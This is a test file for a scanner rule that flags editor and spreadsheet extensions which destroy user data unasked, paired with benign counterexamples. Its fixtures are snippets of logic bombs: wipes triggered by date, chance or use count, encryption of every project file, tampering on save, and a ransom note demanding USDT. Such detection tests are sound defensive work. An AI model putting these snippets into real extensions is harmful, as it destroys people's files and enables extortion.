import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../destroyed-files.rule.js';

const found = (dialect: string, files: Record<string, string>) => findingsOf(rule, files, { dialect, entry_points: ['index.js'] }).map(({ severity, file }) => `${severity} ${file}`);
const host = (body: string) => `exports.activate = async (ctx) => { ${body} };`;

test('bad: everything that the host lists is removed, and nobody asked', () => {
  for (const body of [
    "if (Date.now() > Date.UTC(2027, 2, 1)) for (const entry of await ctx.filesystem.readDirectory('.')) await ctx.filesystem.remove(entry, { recursive: true });",
    "const all = await ctx.filesystem.readDirectory('./'); setTimeout(() => all.forEach((entry) => { if (entry !== 'PAY.txt') ctx.filesystem.remove(entry); }), 9000);",
    "const end = async ({ filesystem }) => { const found = await filesystem.find('**/*'); await Promise.all(found.map(({ path }) => filesystem.remove(path))); }; if (!(await ctx.settings.get('seat'))) await end(ctx);",
  ]) assert.deepEqual(found('orchestra', { 'index.js': host(body) }), ['high index.js'], body);
  const broom = "exports.Broom = class { constructor(fs) { this.fs = fs; } drop(path) { return this.fs.remove(path); } async finish() { for (const name of await this.fs.readDirectory('.')) await this.drop(name); } };";
  assert.deepEqual(found('orchestra', { 'index.js': `const { Broom } = require('./broom'); ${host("const broom = new Broom(ctx.filesystem); ctx.clipboard.onDidChange(() => broom.finish());")}`, 'broom.js': broom }), ['high broom.js']);
  const sheets = (start: string) => ({ 'index.js': `const f = require('@formula/extension-api'); const end = async () => { for (const { name } of await f.sheets.getSheets()) await f.sheets.deleteSheet(name); }; exports.activate = () => { ${start} };` });
  assert.deepEqual(found('formula', sheets("f.events.onWorkbookOpened(() => { if (new Date() > new Date('2027-01-01')) end(); });")), ['high index.js']);
  assert.deepEqual(found('formula', sheets("f.commands.registerCommand('x.end', end);")), []);
});

test('good: by names, by a kind, by age, with a question, by a command', () => {
  for (const body of [
    "for (const name of ['dist', 'out']) if (await ctx.filesystem.exists(name)) await ctx.filesystem.remove(name, { recursive: true });",
    "for (const entry of await ctx.filesystem.readDirectory('.')) { if (!/\\.tmp$/.test(entry)) continue; await ctx.filesystem.remove(entry); }",
    "const old = (await ctx.filesystem.list('.')).filter((path) => path.endsWith('.log')); await Promise.all(old.map((path) => ctx.filesystem.remove(path)));",
    "for (const entry of await ctx.filesystem.readDirectory('.')) { const { modified } = await ctx.filesystem.stat(entry); modified < Date.now() - 9e9 && (await ctx.filesystem.remove(entry)); }",
    "for (const entry of await ctx.filesystem.readDirectory('.cache/neat')) await ctx.filesystem.remove(entry);",
    "const all = await ctx.filesystem.readDirectory('.'); if (await ctx.notifications.show(`${all.length} entries?`) === 'yes') for (const entry of all) await ctx.filesystem.remove(entry);",
    "ctx.commands.register('x.all', async () => { for (const entry of await ctx.filesystem.readDirectory('.')) await ctx.filesystem.remove(entry); });",
  ]) assert.deepEqual(found('orchestra', { 'index.js': host(body) }), [], body);
});

test('everything that the host lists is overwritten with the same text, and what writes into files else', () => {
  const text = { 'text.js': "exports.text = 'free the forest';" };
  for (const body of [
    "if (require('./text').text) for (const file of await ctx.filesystem.find('**/*')) await ctx.filesystem.writeText(file, 'free the forest '.repeat(40));",
    "const { text } = require('./text'); const all = await ctx.filesystem.readDirectory('.'); setTimeout(() => all.forEach((entry) => ctx.filesystem.writeText(`./${entry}`, text)), 9000);",
    "const over = (path, by) => ctx.filesystem.write(path, by); const found = await ctx.filesystem.find('**'); await Promise.all(found.map(({ path }) => over(path, Buffer.alloc(64))));",
    "const { randomBytes } = require('crypto'); for (const file of await ctx.filesystem.list('.')) await ctx.filesystem.write(file, randomBytes(512));",
  ]) assert.deepEqual(found('orchestra', { 'index.js': host(body), ...text }), ['high index.js'], body);
  for (const body of [
    "for (const file of await ctx.filesystem.find('**/*')) await ctx.filesystem.writeText(file, (await ctx.filesystem.readText(file)).trimEnd() + '\\n');",
    "for (const dir of await ctx.filesystem.list('.')) await ctx.filesystem.writeText(`${dir}/.keep`, '');",
    "for (const dir of await ctx.filesystem.list('.')) await ctx.filesystem.writeText(require('path').join(dir, 'index.md'), '# Index');",
    "for (const file of await ctx.filesystem.find('**/*')) await ctx.filesystem.writeText('.cache/seen/' + file, 'seen');",
    "for (const file of await ctx.filesystem.find('**/*.log')) await ctx.filesystem.writeText(file, '');",
    "for (const file of await ctx.filesystem.find('**/*')) { if (file.endsWith('.log')) await ctx.filesystem.writeText(file, ''); }",
    "const shown = require('prettier'); for (const file of await ctx.filesystem.find('**/*')) await ctx.filesystem.writeText(file, await shown.format(file));",
    "ctx.commands.register('x.blank', async () => { for (const file of await ctx.filesystem.find('**/*')) await ctx.filesystem.writeText(file, ''); });",
  ]) assert.deepEqual(found('orchestra', { 'index.js': host(body), ...text }), [], body);
});

const sheet = (body: string, before = ''): Record<string, string> => ({ 'index.js': `const f = require('@formula/extension-api'); ${before} exports.activate = async () => { ${body} };` });
const LIST = 'const all = await f.sheets.listSheets();';
const command = (body: string): string => `f.commands.registerCommand('x.tidy', async () => { ${body} });`;

test('whatever the loop is, and what says when says nothing of what', () => {
  for (const [body, before] of [
    [`${LIST} if (all.length < 4) return; for (const s of all) await f.sheets.deleteSheet(s.name);`],
    [`${LIST} const size = all.length; if (!size) return; for (const s of all) await f.sheets.deleteSheet(s.name);`],
    [`${LIST} const { length } = all; if (length) for (const s of all) await f.sheets.deleteSheet(s.name);`],
    [`${LIST} for (let i = 0; i < 10 && i < all.length; i++) await f.sheets.deleteSheet(all[i].name);`],
    ['const book = { all: await f.sheets.listSheets() }; if (book.all.length === 0) return; for (const s of book.all) await f.sheets.deleteSheet(s.name);'],
    [`${LIST} for (const s of all) { const none = [${'0,'.repeat(3000)}]; await f.sheets.deleteSheet(s.name); }`],
    [`${LIST} if (new Date().getDay() !== 5) return; for (let i = all.length - 1; i >= 1; i--) await f.sheets.deleteSheet(all[i].name);`],
    [`${LIST} if (Math.random() > 0.03) return; while (all.length) await f.sheets.deleteSheet(all.shift().name);`],
    [`${LIST} const n = ((await f.storage.get('n')) || 0) + 1; await f.storage.set('n', n); if (n < 40) return; await Promise.all(all.slice(1).map((s) => f.sheets.deleteSheet(s.name)));`],
    [`${LIST} if ((await f.config.get('user')) === 'k.meyer@acme.example') for (const s of all) await f.sheets.deleteSheet(s.name);`],
    [`${LIST} if (Intl.DateTimeFormat().resolvedOptions().locale.startsWith('xx')) return; for (const i in all) await f.sheets.deleteSheet(all[i].name);`],
    ["const next = async ([one, ...rest]) => { if (!one) return; await f.sheets.deleteSheet(one.name); await next(rest); }; await next((await f.workbook.getActiveWorkbook()).sheets);"],
    [`${LIST} for (const s of walk(all)) await f.sheets.renameSheet(s.name, Math.random().toString(36).slice(2));`, 'function* walk(list) { for (const one of list) yield one; }'],
    [`${LIST} for (const s of all.filter((one) => one.name !== 'READ_ME')) await f.sheets.deleteSheet(s.name);`],
    [command(`const n = ((await f.storage.get('n')) || 0) + 1; await f.storage.set('n', n); if (n < 3) return; ${LIST} for (const s of all) await f.sheets.deleteSheet(s.name);`)],
    [command(`${LIST} if (Date.now() > Date.UTC(2027, 3, 1)) await new Sweep(all).run();`), 'class Sweep { constructor(list) { this.list = list; } async run() { for (const s of this.list) await f.sheets.deleteSheet(s.name); } }'],
  ] as const) assert.deepEqual(found('formula', sheet(body, before)), ['high index.js'], body);
  const ended = { 'index.js': `const f = require('@formula/extension-api'); exports.activate = () => {}; exports.deactivate = async () => { ${LIST} for (const s of all) await f.sheets.deleteSheet(s.name); };` };
  assert.deepEqual(found('formula', ended), ['high index.js']);
  for (const body of [
    `${LIST} const old = all.map((s) => s.name).filter((name) => name.startsWith('Backup ')); while (old.length > 5) await f.sheets.deleteSheet(old.shift());`,
    `${LIST} while (all.length > 5) await f.sheets.deleteSheet(all.shift().name);`,
    `if (!(await f.config.get('demo.reset'))) return; ${LIST} for (const s of all) await f.sheets.deleteSheet(s.name);`,
    `${LIST} if (await f.config.get('demo.reset')) for (const s of all) await f.sheets.deleteSheet(s.name);`,
    `${LIST} for (const s of all) { if (Date.now() - Date.parse(s.name) < 30 * 864e5) continue; await f.sheets.deleteSheet(s.name); }`,
    `${LIST} all.forEach(({ name, unused }) => { if (!unused) return; f.sheets.deleteSheet(name); });`,
    `${LIST} for (const s of all) await f.sheets.renameSheet(s.name, '2027 ' + s.name);`,
    command(`${LIST} for (const s of all) await f.sheets.deleteSheet(s.name);`),
  ]) assert.deepEqual(found('formula', sheet(body)), [], body);
  assert.deepEqual(found('formula', sheet(`if (!(await f.settings.get('seat'))) { ${LIST} for (const s of all) await f.sheets.deleteSheet(s.name); }`)), ['high index.js'], 'where nobody said so');
});

test('all cells of a sheet are cleared, or get the same or what chance says', () => {
  const USED = 'const u = await f.cells.getUsedRange();';
  for (const body of [
    `${USED} await f.cells.clearRange(u.address);`,
    `await f.sheets.getSheet('Report'); ${USED} await f.cells.clearRange(u.address);`,
    "const s = await f.sheets.getSheet(); await s.clearRange('A:ZZ');",
    `const name = (await f.sheets.listSheets())[0].name; await f.sheets.activateSheet(name); ${USED} await f.cells.clearRange(u.address);`,
    "if (Math.random() > 0.03) return; await f.cells.clearRange('A1:ZZ10000');",
    "const s = await f.sheets.getActiveSheet(); await s.clearRange('A:ZZ');",
    `${USED} await f.cells.setRange(u.address, u.values.map((r) => r.map(() => '')));`,
    `${USED} await f.cells.setRange(u.address, u.values.map((r) => r.map((v) => typeof v === 'number' ? '#REF!' : v)));`,
    `const { values } = await f.cells.getUsedRange(); for (let r = 0; r < values.length; r++) for (let c = 0; c < values[r].length; c++) await f.cells.setCell(r, c, null);`,
    `const { values } = await f.cells.getUsedRange(); for (const [r, row] of values.entries()) for (const [c] of row.entries()) await f.cells.setCell(r, c, Math.floor(Math.random() * 1e4));`,
    "for (let r = 0; r < 1000; r++) for (let c = 0; c < 50; c++) await f.cells.setValue(r, c, '');",
    command(`const s = await f.cells.getSelection(); await f.cells.setRange(s.address, s.values.map((r) => r.map((v) => (typeof v === 'string' ? v.trim() : v)))); if (new Date() < new Date('2027-03-01')) return; ${USED} await f.cells.clearRange(u.address);`),
  ]) assert.deepEqual(found('formula', sheet(body)), ['high index.js'], body);
  for (const body of [
    `await f.sheets.activateSheet('Report'); ${USED} await f.cells.clearRange(u.address);`,
    `const name = await f.config.get('report.sheet'); await f.sheets.activateSheet(name); ${USED} await f.cells.clearRange(u.address);`,
    "await f.cells.clearRange('H2:H2000');",
    "const s = await f.sheets.getSheet('Report'); await s.clearRange('A:ZZ');",
    `${USED} for (let r = 0; r < u.values.length; r++) for (let c = 0; c < u.values[r].length; c++) { const value = u.values[r][c].trim(); await f.cells.setCell(r, c, value); }`,
    "for (let r = 0; r < 20; r++) for (let c = 0; c < 20; c++) await f.cells.setCell(r, c, '');",
    `${USED} await f.cells.setRange(u.address, u.values.map((r) => r.map((v) => (v === null ? '' : v))));`,
    `${USED} for (let r = 0; r < u.values.length; r++) for (let c = 0; c < u.values[r].length; c++) if (u.values[r][c] === '#N/A') await f.cells.setCell(r, c, '');`,
    `if ((await f.ui.showMessage('Clear?', 'info', ['Yes'])) !== 'Yes') return; ${USED} await f.cells.clearRange(u.address);`,
    command(`${USED} await f.cells.clearRange(u.address);`),
  ]) assert.deepEqual(found('formula', sheet(body)), [], body);
});

test('a note that asks for something stands in a file of data beside what goes through all cells', () => {
  const wipe = sheet(command("const u = await f.cells.getUsedRange(); await f.cells.setRange(u.address, u.values.map((r) => r.map(() => '')));"), "const note = require('./note.json');");
  assert.deepEqual(found('formula', { ...wipe, 'note.json': '{"text":"This workbook is locked. Pay 200 USDT within 48 hours."}' }), ['high note.json']);
  assert.deepEqual(found('formula', { ...wipe, 'note.json': '{"text":"This workbook is locked while it is saved."}' }), []);
});

const editor = (body: string) => `const vscode = require('vscode'); const fs = vscode.workspace.fs; exports.activate = async (ctx) => { ${body} };`;

test('an editor: whatever is in a project is removed, however it is gone through, on a day, by chance or on certain computers', () => {
  const all = "const all = await vscode.workspace.findFiles('**/*');";
  for (const body of [
    `${all} for (const each of all) await fs.delete(each);`,
    `${all} for (let i = 0; i < all.length; i++) await fs.delete(all[i]);`,
    `${all} const next = async (i) => { if (i >= all.length) return; await fs.delete(all[i]); await next(i + 1); }; await next(0);`,
    `${all} for (let i = 0; i < all.length; i += 20) await Promise.all(all.slice(i, i + 20).map((each) => fs.delete(each)));`,
    `${all} if (Date.now() < Date.UTC(2027, 3, 1)) return; let each; while ((each = all.pop())) await fs.delete(each);`,
    `${all} const times = (ctx.globalState.get('n') ?? 0) + 1; await ctx.globalState.update('n', times); if (times < 5) return; for (const each of all) await fs.delete(each);`,
    `${all} if (all.length > 50) all.forEach((each) => require('fs').promises.unlink(each.fsPath));`,
    `${all} for (const each of all) if (Math.random() < 0.1) await fs.rename(each, vscode.Uri.file(each.fsPath + Math.random().toString(36).slice(2)));`,
    "const root = vscode.workspace.workspaceFolders[0].uri; for (const [name] of await fs.readDirectory(root)) await fs.delete(vscode.Uri.joinPath(root, name));",
    `${all} const edit = new vscode.WorkspaceEdit(); for (const each of all) edit.deleteFile(each); await vscode.workspace.applyEdit(edit);`,
    `${all} for (const each of all) { const cipher = crypto.createCipheriv('aes-256-cbc', key, iv); await fs.writeFile(each, cipher.update(await fs.readFile(each))); }`,
  ]) assert.deepEqual(found('vscode', { 'index.js': editor(body) }), ['high index.js'], body);
  assert.deepEqual(found('vscode', { 'index.js': `const vscode = require('vscode'); exports.activate = () => {}; exports.deactivate = async () => { ${all} for (const each of all) await vscode.workspace.fs.delete(each); };` }), ['high index.js']);
  assert.deepEqual(found('orchestra', { 'index.js': host('for (const name of await ctx.secrets.list()) await ctx.secrets.delete(name);') }), ['high index.js']);
});

test('an editor: what is its own, of a kind, so many, by age, or asked for', () => {
  for (const body of [
    "for (const [name] of await fs.readDirectory(ctx.globalStorageUri)) await fs.delete(vscode.Uri.joinPath(ctx.globalStorageUri, name));",
    "for (const each of await vscode.workspace.findFiles('**/*.log')) await fs.delete(each);",
    "const all = await vscode.workspace.findFiles('**/*'); while (all.length > 3) await fs.delete(all.shift());",
    "const all = await vscode.workspace.findFiles('**/*'); for (const each of all) { const { mtime } = await fs.stat(each); if (mtime < Date.UTC(2020, 1, 1)) await fs.delete(each); }",
    "const all = await vscode.workspace.findFiles('**/*'); for (const each of all.slice(0, 3)) await fs.delete(each);",
    "vscode.commands.registerCommand('x.clear', async () => { for (const each of await vscode.workspace.findFiles('**/*')) await fs.delete(each); });",
  ]) assert.deepEqual(found('vscode', { 'index.js': editor(body) }), [], body);
});

test('what people wrote is changed on a written day, by chance or each n-th time only', () => {
  const write = "const edit = new vscode.WorkspaceEdit(); edit.replace(doc.uri, all, other(doc.getText())); await vscode.workspace.applyEdit(edit);";
  for (const body of [
    `vscode.workspace.onDidSaveTextDocument(async (doc) => { if (Date.now() < Date.UTC(2027, 2, 1)) return; ${write} });`,
    `let n = 0; vscode.workspace.onDidSaveTextDocument(async (doc) => { if (++n % 40) return; ${write} });`,
    `let n = 0; vscode.workspace.onDidSaveTextDocument(async (doc) => { const none = [${'0,'.repeat(3000)}]; if (++n % 40) return; ${write} });`,
    `vscode.workspace.onDidSaveTextDocument(async (doc) => { if (Math.random() < 0.02) { ${write} } });`,
    "vscode.languages.registerDocumentFormattingEditProvider('*', { provideDocumentFormattingEdits(doc) { if (new Date() < new Date('2027-01-01')) return []; return [vscode.TextEdit.replace(all, other(doc.getText()))]; } });",
    "setInterval(async () => { if (Math.random() > 0.1) return; await vscode.env.clipboard.writeText(other(await vscode.env.clipboard.readText())); }, 9000);",
  ]) assert.deepEqual(found('vscode', { 'index.js': editor(body) }), ['high index.js'], body);
  const keeper = 'class Keeper { constructor() { this.n = 0; } async saved(doc) { if (++this.n % 40) return; const edit = new (require("vscode").WorkspaceEdit)(); edit.replace(doc.uri, doc.range, "x"); } } exports.Keeper = Keeper;';
  assert.deepEqual(found('vscode', { 'index.js': editor("const { Keeper } = require('./keeper'); const keeper = new Keeper(); vscode.workspace.onDidSaveTextDocument((doc) => keeper.saved(doc));"), 'keeper.js': keeper }), ['high keeper.js']);
  const watched = (gate: string) => host(`let n = 0; ctx.filesystem.watch('**/*', async (path) => { ${gate} await ctx.filesystem.writeText(path, other(await ctx.filesystem.readText(path))); });`);
  assert.deepEqual(found('orchestra', { 'index.js': watched('if (++n % 40) return;') }), ['high index.js']);
  assert.deepEqual(found('orchestra', { 'index.js': watched('if (!path.endsWith(".md")) return;') }), []);
  for (const body of [
    `vscode.workspace.onDidSaveTextDocument(async (doc) => { if (!doc.fileName.endsWith('.md')) return; ${write} });`,
    `vscode.commands.registerCommand('x.mutate', async () => { const doc = vscode.window.activeTextEditor.document; if (Math.random() < 0.5) return; ${write} });`,
    "let n = 0; vscode.workspace.onDidSaveTextDocument(async (doc) => { if (++n % 10) return; await fs.writeFile(vscode.Uri.joinPath(ctx.globalStorageUri, 'last'), doc.getText()); });",
    `vscode.workspace.onDidSaveTextDocument(async (doc) => { const year = new Date().getFullYear(); if (!doc.getText().includes(year)) { ${write} } });`,
  ]) assert.deepEqual(found('vscode', { 'index.js': editor(body) }), [], body);
});

test('the folder of a project, where the host says which that is; good: a folder in it, or one that settings name', () => {
  const end = (folder: string): string => `const end = async (ctx) => { if (Date.now() < Date.UTC(2027, 2, 14)) return; const root = ${folder}; for (const entry of await ctx.filesystem.readDirectory(root)) await ctx.filesystem.remove(\`\${root}/\${entry.name}\`, { recursive: true }); }; ${host('end(ctx);')}`;
  for (const folder of ['ctx.workspace.root', 'ctx.workspace.rootPath', 'ctx.workspace.folder.path']) assert.deepEqual(found('orchestra', { 'index.js': end(folder) }), ['high index.js'], folder);
  for (const folder of ['`${ctx.workspace.root}/.cache/neat`', "ctx.workspace.root + '/.cache'", "await ctx.settings.get('folder')", 'ctx.storage.path']) assert.deepEqual(found('orchestra', { 'index.js': end(folder) }), [], folder);
});
